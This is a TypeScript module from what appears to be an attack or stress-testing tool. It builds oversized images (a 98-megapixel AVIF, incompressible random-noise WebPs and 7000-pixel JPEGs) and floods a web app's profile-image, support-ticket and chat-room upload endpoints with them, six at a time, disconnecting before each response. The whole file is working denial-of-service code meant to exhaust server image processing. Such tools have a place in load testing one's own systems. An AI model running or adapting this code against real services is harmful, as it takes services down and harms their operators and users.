import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { floodOf, type Attack, type Target } from './attack.ts';
import { formWith, uploadAndLeave } from './impatient-upload.ts';

type Picture = { name: string; bytes: Buffer };
type Form = { path: string; field: string; fields: Record<string, string>; picture: Picture };

const atOnce = 6;

export const pictures: Attack = {
  name: 'pictures',
  does: '6 at once upload an AVIF of 98 megapixels, WebPs of up to 25 MB and JPEGs of 49 megapixels, and leave before the answer',
  async prepare(isSmall) {
    const avif = { name: 'a.avif', bytes: await readFile(new URL('98-megapixels.avif', import.meta.url)) };
    const webp = { name: 'a.webp', bytes: await noise(isSmall ? 500 : 2880) };
    const jpeg = { name: 'a.jpg', bytes: await flat(isSmall ? 2000 : 7000) };
    return (target) => uploadAll(target, { avif, webp, jpeg });
  },
};

async function uploadAll(target: Target, made: Record<'avif' | 'webp' | 'jpeg', Picture>): Promise<void> {
  const room = `/api/chat/rooms/${target.scene.groupId}/upload`;
  const profile = { path: '/api/profile/image', field: 'image', fields: { kind: 'picture' } };
  const ticket = {
    path: '/api/support/tickets',
    field: 'image',
    fields: { title: 'Help', description: 'See the picture', priority: 'high' },
  };
  const forms: Form[] = [
    { ...profile, picture: made.avif },
    { ...ticket, picture: made.jpeg },
    { path: room, field: 'file', fields: { type: 'image' }, picture: made.webp },
    { path: room, field: 'file', fields: { type: 'image' }, picture: made.avif },
  ];
  await floodOf(target, atOnce, (n) => upload(target, forms[n % forms.length]!));
}

const upload = (target: Target, { path, field, fields, picture }: Form) =>
  uploadAndLeave(target, path, formWith(field, picture, fields));

/** Random pixels cannot be compressed: 3 bytes per pixel. */
async function noise(side: number): Promise<Buffer> {
  const { default: sharp } = await import('sharp');
  return sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } })
    .webp({ lossless: true, effort: 0 })
    .toBuffer();
}

async function flat(side: number): Promise<Buffer> {
  const { default: sharp } = await import('sharp');
  return sharp({ create: { width: side, height: side, channels: 3, background: '#3b82f6' } })
    .jpeg({ quality: 40 })
    .toBuffer();
}
